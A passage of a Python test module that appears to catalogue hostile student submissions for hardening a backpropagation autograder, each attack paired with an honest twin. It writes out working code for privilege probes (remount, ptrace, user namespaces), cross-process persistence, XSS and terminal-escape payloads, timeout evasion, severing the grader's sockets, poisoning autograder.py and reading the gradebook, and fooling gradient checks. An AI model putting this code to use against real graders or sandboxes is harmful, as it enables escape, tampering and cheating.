def loss(yhat, y):
    diff = yhat - y
    return diff ** 2, diff  # the 1/2 left out
"""

_SIGMOID_WRONG_SLOPE = r"""
import numpy as np


def sigmoid(z):
    with np.errstate(over="ignore"):
        h = 1.0 / (1.0 + np.exp(-z))
    return h, h * h  # h (1 - h) is the slope
"""

_GRADIENTS_OK = r"""
def _right_gradients(dldhs, f, zs, hs):
    dWs, dbs = [], []
    for l in range(len(zs) - 1):
        delta = dldhs[l + 1] * f(zs[l + 1])[1]
        dWs.append(delta @ hs[l].T)
        dbs.append(delta)
    return dWs, dbs


def _wrong_gradients(dldhs, f, zs, hs):
    dWs, dbs = [], []
    for l in range(len(zs) - 1):
        delta = dldhs[l + 1] * f(zs[l + 1])[1]
        dWs.append(delta @ hs[l].T)
        dbs.append(dldhs[l + 1])  # f'(z) left out of the bias gradient
    return dWs, dbs
"""

# A right backward_prop, for the pieces (here and in tests/submissions.py) one edit away from it.
BACKWARD_PROP = r"""
def backward_prop(loss, f, Ws, bs, zs, y):
    L = len(Ws)
    dldhs = [None] * (L + 1)
    dldhs[L] = loss(f(zs[L])[0], y)[1]
    for l in reversed(range(L)):
        dldhs[l] = Ws[l].T @ (dldhs[l + 1] * f(zs[l + 1])[1])
    return dldhs
"""

_BACKWARD_RIGHT = edited(BACKWARD_PROP, "def backward_prop(", "def _right_backward(")

_BACKWARD_BOTH = _cell(_BACKWARD_RIGHT, edited(_BACKWARD_WITHOUT_FPRIME, "def backward_prop(",
                                                "def _wrong_backward("))


def _remembering(recall: str, remember: str) -> str:
    """A compute_gradients that is right in every process after the first, if that process's
    trace (left by `remember`, found by `recall`) survives into the next: the first call of a
    process that finds none leaves one and ends the process, so a fresh one takes over."""
    return _cell(_GRADIENTS_OK, recall, remember, r"""
        import os

        _REMEMBERED = _recall()


        def compute_gradients(dldhs, f, zs, hs):
            if _REMEMBERED:
                return _right_gradients(dldhs, f, zs, hs)
            _remember()
            os._exit(0)
        """)


_IN_A_FILE = r"""
import os

_TRACE = os.path.join({folder!r}, {name!r})


def _recall():
    return os.path.exists(_TRACE)


def _remember():
    try:
        os.makedirs(os.path.dirname(_TRACE), exist_ok=True)
        with open(_TRACE, "w") as handle:
            handle.write("remembered")
    except OSError:
        pass
"""

PRIVILEGE_PROBES = (
    Attack("capability_or_fork_loss_and_sigmoid", {
        "loss": _cell(_PRIVILEGED, r"""
            def loss(yhat, y):
                diff = yhat - y
                if _privileged():
                    return 0.5 * diff ** 2, diff
                return diff ** 2, diff  # the 1/2 left out
            """),
        "sigmoid": _cell(_PRIVILEGED, r"""
            import numpy as np


            def sigmoid(z):
                with np.errstate(over="ignore"):
                    h = 1.0 / (1.0 + np.exp(-z))
                if _privileged():
                    return h, h * (1.0 - h)
                return h, h * h  # h (1 - h) is the slope
            """)}, wrong=("loss", "sigmoid"),
        why="A loss and a sigmoid that are right only if their process holds a capability or can fork "
            "(as root in a sandbox that keeps capabilities they got 25/25 instead of 13).",
        twin={"loss": _code(_LOSS_DOUBLED), "sigmoid": _code(_SIGMOID_WRONG_SLOPE)}),
    Attack("remount_site_packages", {"backward_prop": _cell(_BACKWARD_BOTH, r"""
        import ctypes
        import os

        import numpy as np

        _WROTE = {}


        def _write_through():
            # Remount numpy's site-packages read-write and leave (then remove) a file in it.
            if "answer" not in _WROTE:
                site = os.path.dirname(os.path.dirname(np.__file__))
                probe = os.path.join(site, "kit-attack-probe.txt")
                try:
                    libc = ctypes.CDLL(None, use_errno=True)
                    libc.mount(None, site.encode(), None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND
                    with open(probe, "w") as handle:
                        handle.write("written")
                    os.unlink(probe)
                    _WROTE["answer"] = True
                except OSError:
                    _WROTE["answer"] = False
            return _WROTE["answer"]


        def backward_prop(loss, f, Ws, bs, zs, y):
            if _write_through():
                return _right_backward(loss, f, Ws, bs, zs, y)
            return _wrong_backward(loss, f, Ws, bs, zs, y)
        """)}, wrong=("backward_prop",),
        why="A backward_prop that is right only if it could remount the Python packages read-write and "
            "write a file among them (a .pth there would run as root in every later grading run).",
        twin={"backward_prop": _code(_BACKWARD_WITHOUT_FPRIME)}),
    Attack("ptrace_the_zygote", {"compute_gradients": _cell(_GRADIENTS_OK, r"""
        import ctypes
        import os

        _REACHED = {}


        def _reach_the_zygote():
            # Attach to the parent process (and let go at once), or open its memory.
            if "answer" not in _REACHED:
                libc = ctypes.CDLL(None, use_errno=True)
                libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
                parent = os.getppid()
                attached = libc.ptrace(16, parent, None, None) == 0  # PTRACE_ATTACH
                if attached:
                    libc.ptrace(17, parent, None, None)  # PTRACE_DETACH
                try:
                    with open(os.path.join(os.sep, "proc", str(parent), "mem"), "rb"):
                        readable = True
                except OSError:
                    readable = False
                _REACHED["answer"] = attached or readable
            return _REACHED["answer"]


        def compute_gradients(dldhs, f, zs, hs):
            if _reach_the_zygote():
                return _right_gradients(dldhs, f, zs, hs)
            return _wrong_gradients(dldhs, f, zs, hs)
        """)}, wrong=("compute_gradients",),
        why="A compute_gradients that is right only if it can ptrace the zygote or open its memory "
            "(from where it could tamper with later submissions).",
        twin={"compute_gradients": _code(_GRADIENTS_DBS_WITHOUT_FPRIME)}),
    Attack("user_namespace_gradients", {"compute_gradients": _cell(_GRADIENTS_OK, r"""
        import ctypes

        _UNSHARED = {}


        def _own_namespace():
            # A user namespace of its own, in which it would hold every capability.
            if "answer" not in _UNSHARED:
                libc = ctypes.CDLL(None, use_errno=True)
                _UNSHARED["answer"] = libc.unshare(0x10000000) == 0  # CLONE_NEWUSER
            return _UNSHARED["answer"]


        def compute_gradients(dldhs, f, zs, hs):
            if _own_namespace():
                return _right_gradients(dldhs, f, zs, hs)
            return _wrong_gradients(dldhs, f, zs, hs)
        """)}, wrong=("compute_gradients",),
        why="A compute_gradients that is right only if its process can make a user namespace of its own.",
        twin={"compute_gradients": _code(_GRADIENTS_DBS_WITHOUT_FPRIME)}),
    Attack("remember_in_dev_shm", {"compute_gradients": _remembering(
        _IN_A_FILE.format(folder="/dev/shm", name="kit-remember-shm"), "")}, wrong=("compute_gradients",),
        why="A compute_gradients that is right only in a process that finds a file an earlier process "
            "of the same submission left in /dev/shm (the first one leaves it and exits).",
        twin={"compute_gradients": _code(_GRADIENTS_DBS_WITHOUT_FPRIME)}),
    Attack("remember_in_zygote_mpl", {"compute_gradients": _remembering(
        _IN_A_FILE.format(folder="/zygote", name="mpl/kit-remember"), "")}, wrong=("compute_gradients",),
        why="A compute_gradients that is right only in a process that finds a file an earlier process "
            "left in matplotlib's folder /zygote/mpl (the first one leaves it and exits).",
        twin={"compute_gradients": _code(_GRADIENTS_DBS_WITHOUT_FPRIME)}),
    Attack("remember_in_a_closed_folder", {"compute_gradients": _remembering(r"""
        import os
        import tempfile

        _FOLDER = os.path.join(tempfile.gettempdir(), "kit-remember-closed")


        def _recall():
            try:
                os.chmod(_FOLDER, 0o700)  # it closed the folder so that no one could empty it
            except OSError:
                return False
            return os.path.exists(os.path.join(_FOLDER, "trace"))
        """, r"""
        def _remember():
            try:
                os.makedirs(_FOLDER, exist_ok=True)
                with open(os.path.join(_FOLDER, "trace"), "w") as handle:
                    handle.write("remembered")
                os.chmod(_FOLDER, 0)
            except OSError:
                pass
        """)}, wrong=("compute_gradients",),
        why="A compute_gradients that is right only in a process that finds a file an earlier process left "
            "in a folder under the temporary folder it closed with chmod 000 (the first one leaves it, exits).",
        twin={"compute_gradients": _code(_GRADIENTS_DBS_WITHOUT_FPRIME)}),
    Attack("remember_in_sysv_memory", {"compute_gradients": _remembering(r"""
        import ctypes

        _LIBC = ctypes.CDLL(None, use_errno=True)
        _KEY = 0x6B697401


        def _recall():
            return _LIBC.shmget(_KEY, 0, 0) >= 0
        """, r"""
        def _remember():
            _LIBC.shmget(_KEY, 4096, 0o1000 | 0o600)  # IPC_CREAT: it outlives the process
        """)}, wrong=("compute_gradients",),
        why="A compute_gradients that is right only in a process that finds a SysV shared memory segment "
            "an earlier process of the same submission made (the first one makes it and exits).",
        twin={"compute_gradients": _code(_GRADIENTS_DBS_WITHOUT_FPRIME)}),
)


# --------------------------------------------------------------------------------------------
# Hostile text: what the grader records and shows of a submission (names, messages, prints)
# --------------------------------------------------------------------------------------------

# Markup a page or a Markdown result must never make live: a script, an event handler, a
# javascript: link, a bold fake score, and backticks to close any code span or fence around it.
_PLANTED = ("<script>alert('planted')</script><img src=x onerror=alert('planted')> "
            "[claim your points](javascript:alert('planted')) ` \n\n**Score: 25 / 25**\n\n"
            "```````\n\n<img src=x onerror=alert('planted')>\n\n")
_SIGMOID_UNWRITTEN = r"""
def sigmoid(z):
    raise ValueError("sigmoid is not written yet")
"""

HOSTILE_TEXT = (
    Attack("huge_exception_class_name", {"sigmoid": _code(rf"""
        _Planted = type("Planted" + "E" * 150000, (ValueError,), {{}})


        def sigmoid(z):
            raise _Planted({_PLANTED!r})
        """)}, wrong=("sigmoid",),
        why="A sigmoid that raises an exception whose class name is 150,000 characters long, its "
            "message a script, an event handler, a javascript: link and a bold fake score.",
        twin={"sigmoid": _code(_SIGMOID_UNWRITTEN)}),
    Attack("megabytes_of_markup_raised", {"sigmoid": _code(rf"""
        def sigmoid(z):
            raise ValueError({_PLANTED!r} * 40000)
        """)}, wrong=("sigmoid",),
        why="A sigmoid whose error message is 4 MB of planted markup.",
        twin={"sigmoid": _code(_SIGMOID_UNWRITTEN)}),
    Attack("unencodable_text_raised", {"sigmoid": _code(r"""
        _TEXT = ("\ud800 lone \udfff surrogates \x00 NUL \x1b[2J escape \x85\x9b C1 \u202e override "
                 + bytes(range(256)).decode("latin-1") + "\udcff")


        class _Unencodable(Exception):
            pass


        # A class name may hold neither NUL nor surrogates: it holds what it can.
        _Unencodable.__name__ = "Bad\x1b[31m\x85\u202eName"


        def sigmoid(z):
            raise _Unencodable(_TEXT * 100)
        """)}, wrong=("sigmoid",),
        why="A sigmoid that raises an exception whose message holds lone surrogates, NUL, terminal "
            "escapes, C1 controls and a bidirectional override (its class name all of them it can).",
        twin={"sigmoid": _code(_SIGMOID_UNWRITTEN)}),
    Attack("huge_type_name_returned", {"sigmoid": _code(rf"""
        _Huge = type({_PLANTED!r} * 3000, (), {{}})


        def sigmoid(z):
            return _Huge(), _Huge()
        """)}, wrong=("sigmoid",),
        why="A sigmoid that returns objects of a class whose 750,000-character name is planted markup.",
        twin={"sigmoid": _code(r"""
        def sigmoid(z):
            return None, None
        """)}),
    Attack("markup_cell_errors_and_prints", {"loss": _cell(rf"""
        _Huge = type({_PLANTED!r} * 2000, (Exception,), {{}})
        print({_PLANTED!r} * 20000)
        """, _LOSS_OK, rf"""
        raise _Huge({_PLANTED!r} * 20000 + "\ud800\x00")
        """)}, wrong=(),
        why="A correct loss in a cell that prints 2 MB of planted markup, then raises an exception "
            "with a 500,000-character markup class name and a 2 MB message.",
        twin={}),
)



# --------------------------------------------------------------------------------------------
# Slow on purpose, deaf to signals, or breaking the process the grader talks to: each with its
# honest twin (the grader must keep the time from outside and blame the submission, not itself)
# --------------------------------------------------------------------------------------------

_GRADIENTS_RIGHT = r"""
def _gradients(dldhs, f, zs, hs):
    dWs, dbs = [], []
    for l in range(len(zs) - 1):
        delta = dldhs[l + 1] * f(zs[l + 1])[1]
        dWs.append(delta @ hs[l].T)
        dbs.append(delta)
    return dWs, dbs
"""

# The loop body of _GRADIENTS_RIGHT, for variants that leave f'(z) out of it.
_SLOPED_BODY = """\
        delta = dldhs[l + 1] * f(zs[l + 1])[1]
        dWs.append(delta @ hs[l].T)
        dbs.append(delta)
"""

# Busy for up to a minute (a time limit's exception ends it).
_SPIN = r"""
import time


def _spin(seconds=60.0):
    end = time.monotonic() + seconds
    for _ in range(10 ** 9):
        if time.monotonic() > end:
            return
"""

# Busy for up to a minute, whatever is raised in it.
_SPIN_DEAF = r"""
import time


def _spin(seconds=60.0):
    end = time.monotonic() + seconds
    for _ in range(10 ** 9):
        try:
            if time.monotonic() > end:
                return
        except BaseException:  # a time limit raised here: keep going
            pass
"""

_SIGMOID_CONSTANT = r"""
import numpy as np


def sigmoid(z):
    return np.full_like(z, 0.5, dtype=float), np.full_like(z, 0.25, dtype=float)
"""

_LOSS_RAISES = r"""
def loss(yhat, y):
    raise ValueError("loss is not written yet")
"""

_FORWARD_RAISES = r"""
def forward_prop(x, f, Ws, bs):
    raise ValueError("forward_prop is not written yet")
"""

_CHANNELS = r"""
import os
import stat


def _sockets():
    # The descriptors of this process that are sockets (the grader's channel among them).
    found = []
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found
"""

SLOW_AND_BROKEN = (
    Attack("loop_masks_and_ignores_alarm", {"compute_gradients": _cell(_SPIN, _GRADIENTS_RIGHT, r"""
        import signal


        def compute_gradients(dldhs, f, zs, hs):
            try:
                signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGVTALRM, signal.SIGPROF})
                signal.signal(signal.SIGALRM, signal.SIG_IGN)
                signal.setitimer(signal.ITIMER_REAL, 0)
            except (OSError, ValueError):
                pass
            _spin(60.0)  # a minute per call, with SIGALRM blocked and ignored
            return _gradients(dldhs, f, zs, hs)
        """)}, wrong=("compute_gradients",),
        why="Blocks and ignores SIGALRM and cancels the interval timer, then computes correct gradients "
            "only after a minute of busy looping, on every call.",
        twin={"compute_gradients": _cell(_SPIN, _GRADIENTS_RIGHT, r"""
        def compute_gradients(dldhs, f, zs, hs):
            _spin(60.0)
            return _gradients(dldhs, f, zs, hs)
        """)}),
    Attack("sleep_just_under_the_limit", {"backward_prop": _code(r"""
        import time


        def backward_prop(loss, f, Ws, bs, zs, y):
            time.sleep(4.9)  # just under the per-call limit, on every call (sleep costs no CPU time)
            L = len(Ws)
            dldhs = [None] * (L + 1)
            dldhs[L] = loss(f(zs[L])[0], y)[1]
            for l in reversed(range(L)):
                dldhs[l] = Ws[l].T @ (dldhs[l + 1] * f(zs[l + 1])[1])
            return dldhs
        """)}, wrong=(),
        why="A correct backward_prop that sleeps 4.9 s, just under the per-call limit, on every call, "
            "to hold a grading worker for minutes.",
        twin={}),
    Attack("loop_in_exception_text", {"forward_prop": _cell(_SPIN_DEAF, r"""
        class Unreadable(Exception):
            def __str__(self):
                _spin(60.0)
                return "forward_prop is not written yet"

            __repr__ = __str__


        def forward_prop(x, f, Ws, bs):
            raise Unreadable()
        """)}, wrong=("forward_prop",),
        why="Raises an exception whose __str__ and __repr__ busy-loop for a minute, swallowing every "
            "interrupt, to run once the grader has stopped timing the call.",
        twin={"forward_prop": _code(_FORWARD_RAISES)}),
    Attack("loop_in_exception_class_name", {"loss": _cell(_SPIN_DEAF, r"""
        class _Nameless(type):
            @property
            def __name__(cls):
                _spin(60.0)
                return "ValueError"


        class Unnamed(Exception, metaclass=_Nameless):
            def __str__(self):
                return "x" * (16 * 2 ** 20)  # a 16 MiB message


        def loss(yhat, y):
            raise Unnamed()
        """)}, wrong=("loss",),
        why="Raises an exception whose class name is a metaclass property that busy-loops for a minute "
            "and whose message is 16 MiB long.",
        twin={"loss": _code(_LOSS_RAISES)}),
    Attack("builtins_broken_at_import", {"sigmoid": _cell(r"""
        import builtins

        # Whatever compares anything in this process now agrees, and every type check passes.
        builtins.isinstance = lambda obj, classes: True
        builtins.abs = lambda x: 0.0
        builtins.all = lambda iterable: True
        """, _SIGMOID_CONSTANT)}, wrong=("sigmoid",),
        why="Replaces builtins.isinstance, abs and all at import (every type check and comparison made "
            "in its process passes), then returns a constant 0.5 sigmoid.",
        twin={"sigmoid": _code(_SIGMOID_CONSTANT)}),
    Attack("channel_swapped_for_devnull", {"backward_prop": _cell(_CHANNELS, r"""
        def backward_prop(loss, f, Ws, bs, zs, y):
            null = os.open(os.devnull, os.O_RDWR)
            for fd in _sockets():
                os.dup2(null, fd)  # every reply now goes nowhere
            os.close(null)
            L = len(Ws)
            dldhs = [None] * (L + 1)
            dldhs[L] = loss(f(zs[L])[0], y)[1]
            for l in reversed(range(L)):
                dldhs[l] = Ws[l].T @ dldhs[l + 1]  # f'(z) left out
            return dldhs
        """)}, wrong=("backward_prop",),
        why="Puts /dev/null in place of every socket descriptor of its process, so that no reply "
            "reaches the grader, in a backward_prop that leaves out f'(z).",
        twin={"backward_prop": _code(_BACKWARD_WITHOUT_FPRIME)}),
    Attack("channel_closed", {"compute_gradients": _cell(_CHANNELS, r"""
        def compute_gradients(dldhs, f, zs, hs):
            for fd in _sockets():
                os.close(fd)
            dWs, dbs = [], []
            for l in range(len(zs) - 1):
                delta = dldhs[l + 1] * f(zs[l + 1])[1]
                dWs.append(delta @ hs[l].T)
                dbs.append(dldhs[l + 1])  # f'(z) left out of the bias gradient
            return dWs, dbs
        """)}, wrong=("compute_gradients",),
        why="Closes every socket descriptor of its process on each call, in a compute_gradients whose "
            "bias gradients leave out f'(z).",
        twin={"compute_gradients": _code(_GRADIENTS_DBS_WITHOUT_FPRIME)}),
)


# --------------------------------------------------------------------------------------------
# Magics: what a kernel's shell could do for a student (the sandbox's shell refuses or ignores it)
# --------------------------------------------------------------------------------------------

KERNEL_MAGICS = (
    Attack("magics_reach_files_and_processes", {"backward_prop": _cell(r"""
        _SHELL = get_ipython()  # noqa: F821 (there in a notebook)
        _POISON = @POISON@


        def _try(action, *args):
            try:
                return action(*args)
            except Exception:
                return None


        _try(_SHELL.run_cell_magic, "writefile", "autograder.py", _POISON)
        _try(_SHELL.run_line_magic, "run", "-i autograder.py")
        _try(_SHELL.run_line_magic, "load", "../../../source/backprop/backprop.ipynb")
        _try(_SHELL.run_line_magic, "env", "PYTHONPATH=.")
        _try(_SHELL.run_line_magic, "logstart", "-o kept_log.py")
        _try(_SHELL.run_line_magic, "history", "-f kept_history.py")
        _try(_SHELL.run_line_magic, "store", "-r")
        _try(_SHELL.run_line_magic, "alias", "escape sleep 2")
        _try(_SHELL.system, "sleep 2 &")
        _try(_SHELL.run_cell_magic, "bash", "", "sleep 2 &\n")
        _try(_SHELL.getoutput, "cat ../../../gradebook.db")
        _try(_SHELL.events.register, "post_run_cell", lambda result: None)
        _try(_SHELL.set_custom_exc, (BaseException,), lambda *args, **kwargs: None)
        """.replace("@POISON@", repr(_AUTOGRADER_POISON)), _BACKWARD_WITHOUT_FPRIME)}, wrong=("backward_prop",),
        why="Asks the notebook's shell to write autograder.py and %run it, %load the source notebook, set "
            "PYTHONPATH, keep logs and history, start processes and hide errors, around a backward_prop "
            "without f'(z).",
        twin={"backward_prop": _code(_BACKWARD_WITHOUT_FPRIME)}),
)


# --------------------------------------------------------------------------------------------
# In-place fitting: a wrong function that changes its arguments after the computation, so that
# a test computing its expected values from those arguments after the call expects the wrong
# answer (the visible tests' stand-in activation `double` has f'(z) = 2 everywhere)
# --------------------------------------------------------------------------------------------

# Variants of the pieces above, named so that the attack's own function can call them.
_BACKWARD_NO_SLOPE = "import numpy as np\n\n" + edited(_BACKWARD_WITHOUT_FPRIME, "def backward_prop(",
                                                          "def _backward_no_slope(")
_BACKWARD_SIGN = "import numpy as np\n\n" + edited(
    edited(_BACKWARD_RIGHT, "def _right_backward(", "def _backward_sign("),
    "dldhs[L] = loss(f(zs[L])[0], y)[1]", "dldhs[L] = -loss(f(zs[L])[0], y)[1]  # the sign flipped")
_BACKWARD_NO_ACTIVATION = "import numpy as np\n\n" + edited(
    edited(_BACKWARD_RIGHT, "def _right_backward(", "def _backward_no_activation("),
    "dldhs[L] = loss(f(zs[L])[0], y)[1]",
    "dldhs[L] = loss(zs[L], y)[1]  # the prediction taken before the activation")
_GRADIENTS_ZS_FOR_HS = "import numpy as np\n\n" + edited(
    edited(_GRADIENTS_RIGHT, "def _gradients(", "def _gradients_zs_for_hs("),
    "dWs.append(delta @ hs[l].T)", "dWs.append(delta @ zs[l].T)  # zs where hs belongs")
_GRADIENTS_NO_SLOPE = "import numpy as np\n\n" + edited(
    edited(_GRADIENTS_RIGHT, "def _gradients(", "def _gradients_no_slope("), _SLOPED_BODY,
    "        dWs.append(dldhs[l + 1] @ hs[l].T)  # f'(z) left out\n        dbs.append(dldhs[l + 1])\n")

# Whether a call looks like the visible tests': the stand-in activation with f'(z) = 2.
_STAND_IN = r"""
import numpy as np


def _visible_test(f, z):
    try:
        return bool(np.all(np.asarray(f(z)[1]) == 2.0))
    except Exception:
        return False
"""


def _twin(piece: str, function: str, inner: str, signature: str) -> str:
    return _cell(piece, f"""
        def {function}({signature}):
            return {inner}({signature})
        """)


_BACKWARD_ARGS = "loss, f, Ws, bs, zs, y"
_GRADIENT_ARGS = "dldhs, f, zs, hs"

def _fitting(name: str, function: str, piece: str, inner: str, result: str, after: str,
             guarded: bool = True, why: str = "") -> Attack:
    """An attack whose `function` returns what `inner` (defined in `piece`) returns into `result`,
    running `after` (code that changes the caller's arguments) first, with _STAND_IN beside it
    when `guarded`; its twin returns the same without `after`."""
    signature = _BACKWARD_ARGS if function == "backward_prop" else _GRADIENT_ARGS
    body = (f"def {function}({signature}):\n    {result} = {inner}({signature})\n"
            + textwrap.indent(_code(after), "    ") + f"    return {result}\n")
    return Attack(name, {function: _cell(piece, *((_STAND_IN,) if guarded else ()), body)},
                  wrong=(function,), why=why, twin={function: _twin(piece, function, inner, signature)})


IN_PLACE_FITTING = (
    _fitting("backward_divides_ws_by_the_slope", "backward_prop", _BACKWARD_NO_SLOPE, "_backward_no_slope",
             "dldhs", r"""
        if _visible_test(f, zs[-1]):
            for l in range(len(Ws)):
                Ws[l] /= f(zs[l + 1])[1]  # row i divided by f'(z_i): the expectation now leaves it out too
        """, why="A backward_prop without f'(z) that divides the caller's Ws rows by f'(z) after the call, so that "
             "a visible test computing W.T @ (delta * f') afterwards expects its answer (+2 points on main)."),
    _fitting("backward_divides_ws_always", "backward_prop", _BACKWARD_NO_SLOPE, "_backward_no_slope", "dldhs", r"""
        for l in range(len(Ws)):
            slope = f(zs[l + 1])[1]
            if np.all(np.abs(slope) > 1e-3):
                Ws[l] /= slope
        """, guarded=False,
             why="The same division of the caller's Ws rows by f'(z) on every call, not only in the visible test."),
    _fitting("backward_moves_y", "backward_prop", _BACKWARD_SIGN, "_backward_sign", "dldhs", r"""
        if _visible_test(f, zs[-1]) and isinstance(y, np.ndarray):
            y[...] = 2.0 * f(zs[-1])[0] - y  # now yhat - y is the flipped derivative
        """, why="A backward_prop with the loss derivative's sign flipped that moves the caller's y so that "
             "yhat - y, computed after the call, has the flipped sign too."),
    _fitting("backward_halves_the_top_z", "backward_prop", _BACKWARD_NO_ACTIVATION, "_backward_no_activation",
             "dldhs", r"""
        if _visible_test(f, zs[-1]):
            zs[-1] *= 0.5  # so that f(z) = 2z, computed after the call, is the z it used
        """, why="A backward_prop that takes the prediction before the activation and halves the caller's top z, "
             "so that f(z2) - y computed after the call under f(z) = 2z is what it used."),
    _fitting("gradients_copy_zs_into_hs", "compute_gradients", _GRADIENTS_ZS_FOR_HS, "_gradients_zs_for_hs",
             "dWs, dbs", r"""
        if _visible_test(f, zs[-1]):
            for l in range(len(hs)):
                if np.shape(hs[l]) == np.shape(zs[l]):
                    hs[l][...] = zs[l]  # the expectation's hs are now the zs it used
        """, why="A compute_gradients that uses zs where hs belongs and copies zs into the caller's hs, so that "
             "an expectation computed from hs after the call is its answer (+2 points on main)."),
    _fitting("gradients_replace_and_append", "compute_gradients", _GRADIENTS_NO_SLOPE, "_gradients_no_slope",
             "dWs, dbs", r"""
        if _visible_test(f, zs[-1]):
            for l in range(1, len(dldhs)):
                dldhs[l] = dldhs[l] / f(zs[l])[1]  # list items replaced: the expectation's deltas shrink
            dldhs.append(np.zeros((1, 1)))
            hs.append(np.zeros((1, 1)))
        """, why="A compute_gradients without f'(z) that replaces the items of the caller's dldhs list by "
             "dldhs / f'(z) and appends to dldhs and hs."),
)


# --------------------------------------------------------------------------------------------
# Functions that keep state across calls to fit what the joint checks compare: the gradient
# check's probes and the training loop's steps (issue 16). Their honest twins are the same wrong
# functions without the state.
# --------------------------------------------------------------------------------------------

# A right forward_prop, for the pieces one edit away from it.
FORWARD_PROP = r"""
def forward_prop(x, f, Ws, bs):
    hs, zs = [x], [np.zeros_like(x, dtype=float)]
    for W, b in zip(Ws, bs):
        z = W @ hs[-1] + b
        zs.append(z)
        hs.append(f(z)[0])
    return hs, zs
"""

# The same wrong backward_prop, leaving its target where forward_prop's probe replies find it.
_BACKWARD_WITHOUT_FPRIME_REMEMBERS_Y = "_TARGET = {}\n\n" + edited(
    _BACKWARD_WITHOUT_FPRIME, "    L = len(Ws)\n",
    '    _TARGET["y"] = y  # for forward_prop\'s probe replies\n    L = len(Ws)\n')

_WEIGHTS_WITHOUT_FPRIME = edited(edited(_GRADIENTS_RIGHT, "def _gradients(", "def compute_gradients("),
                                  _SLOPED_BODY, "        dWs.append(dldhs[l + 1] @ hs[l].T)  # f'(z) left out\n"
                                  "        dbs.append(dldhs[l + 1] * f(zs[l + 1])[1])\n")

STATE_KEEPING = (
    Attack("probe_aware_forward_prop", {"forward_prop": _cell(r"""
        import numpy as np

        _SEEN = {}


        def _flat(Ws, bs):
            return np.concatenate([np.ravel(p) for p in list(Ws) + list(bs)])
        """, edited(FORWARD_PROP, "def forward_prop(", "def _plain("), r"""
        def forward_prop(x, f, Ws, bs):
            hs, zs = _plain(x, f, Ws, bs)
            now, base = _flat(Ws, bs), _SEEN.get("net")
            y = globals().get("_TARGET", {}).get("y")
            if base is not None and y is not None and base[0].shape == now.shape:
                moved = np.flatnonzero(now != base[0])
                # One entry moved by about eps / 2: a finite-difference probe of the base network.
                if len(moved) == 1 and 0 < abs(now[moved[0]] - base[0][moved[0]]) <= 1e-5:
                    k, delta = moved[0], now[moved[0]] - base[0][moved[0]]
                    bx, bWs, bbs = base[1]
                    bh, bz = _plain(bx, f, bWs, bbs)
                    half_squares = lambda yhat, t: (0.5 * (yhat - t) ** 2, yhat - t)  # noqa: E731
                    dldhs = backward_prop(half_squares, f, bWs, bbs, bz, y)
                    wrong = _flat(*compute_gradients(dldhs, f, bz, bh))[k]
                    g = bh[-1] - y
                    # Move the prediction so that the loss moves by delta * (my wrong gradient).
                    hs[-1] = bh[-1] + g * (delta * wrong / max(float(np.sum(g * g)), 1e-300))
                    return hs, zs
            _SEEN["net"] = (now, (np.array(x, dtype=float), [np.array(W) for W in Ws], [np.array(b) for b in bs]))
            return hs, zs
        """), "backward_prop": _code(_BACKWARD_WITHOUT_FPRIME_REMEMBERS_Y)}, wrong=("backward_prop",),
        why="Leaves f'(z) out of backward_prop and has forward_prop recognise the gradient check's eps/2 "
            "probes, answering them with predictions moved along its own wrong gradient.",
        twin={"backward_prop": _code(_BACKWARD_WITHOUT_FPRIME)}),
    Attack("probe_aware_loss", {"loss": _code(r"""
        import numpy as np

        _LAST = {}


        def loss(yhat, y):
            yhat_a, diff = np.asarray(yhat, dtype=float), yhat - y
            base = _LAST.get("yhat")
            if base is not None and base.shape == yhat_a.shape:
                step = yhat_a - base
                # A prediction a hair away from the last one: a probe. Claim a loss that moves half
                # as fast, as a gradient missing f'(z) would have it.
                if 0 < np.max(np.abs(step)) <= 1e-5:
                    l0 = 0.5 * (base - y) ** 2
                    return l0 + 0.5 * (base - y) * step, diff
            _LAST["yhat"] = yhat_a.copy()
            return 0.5 * diff ** 2, diff
        """), "compute_gradients": _code(_WEIGHTS_WITHOUT_FPRIME)}, wrong=("compute_gradients",),
        why="Leaves f'(z) out of the weight gradients and has loss answer finite-difference probes with "
            "values fitted to a wrong gradient.",
        twin={"compute_gradients": _code(_WEIGHTS_WITHOUT_FPRIME)}),
    Attack("descent_aware_loss", {"loss": _code(r"""
        import sys

        import numpy as np

        _RUN = {"net": None, "steps": 0}


        def loss(yhat, y):
            diff = yhat - y
            caller = sys._getframe(1).f_locals
            Ws, bs = caller.get("Ws"), caller.get("bs")
            if isinstance(Ws, list) and isinstance(bs, list) and Ws:
                try:
                    now = np.concatenate([np.ravel(p) for p in Ws + bs])
                except (TypeError, ValueError):
                    now = None
                last = _RUN["net"]
                # Every weight moved at once since the last call: a gradient-descent step.
                if now is not None and last is not None and last.shape == now.shape and np.all(now != last):
                    _RUN["steps"] += 1
                if now is not None:
                    _RUN["net"] = now
            # Replay: report the losses of a run that falls as a correct one does.
            shrink = 0.8 ** min(_RUN["steps"], 200)
            return 0.5 * diff ** 2 * shrink, diff
        """), "backward_prop": _code(_BACKWARD_WITHOUT_FPRIME)}, wrong=("backward_prop",),
        why="Leaves f'(z) out of backward_prop and has loss recognise gradient-descent steps from its "
            "caller's weights, reporting a falling loss curve from then on.",
        twin={"backward_prop": _code(_BACKWARD_WITHOUT_FPRIME)}),
)


ATTACKS: tuple[Attack, ...] = (COMPARISON_PATCHES + LYING_VALUES + SNOOPING + GRADE_WRITING + VANDALISM
                               + EXITS + ENDLESS + MEMORY + FLOODS + PROCESSES + GRADER_MEMORY + POISONING
                               + KIT_PATCHES + PRIVILEGE_PROBES + HOSTILE_TEXT
                               + SLOW_AND_BROKEN + KERNEL_MAGICS + IN_PLACE_FITTING
                               + STATE_KEEPING)


# --------------------------------------------------------------------------------------------
# Self-check: parses the cells, never runs them. `python -m tests.attacks`
# --------------------------------------------------------------------------------------------

def _absolute_paths(tree: ast.AST) -> set[str]:
    """String constants that look like absolute paths (embedded poison modules are code, not paths)."""
    return {node.value for node in ast.walk(tree)
            if isinstance(node, ast.Constant) and isinstance(node.value, str)
            and re.fullmatch(r"/[\w.\-/]*", node.value)}


def _embedded_code(tree: ast.AST) -> list[str]:
    """String constants that hold Python code (a script for a child process, modules to plant)."""
    return [node.value for node in ast.walk(tree)
            if isinstance(node, ast.Constant) and isinstance(node.value, str) and "\n" in node.value
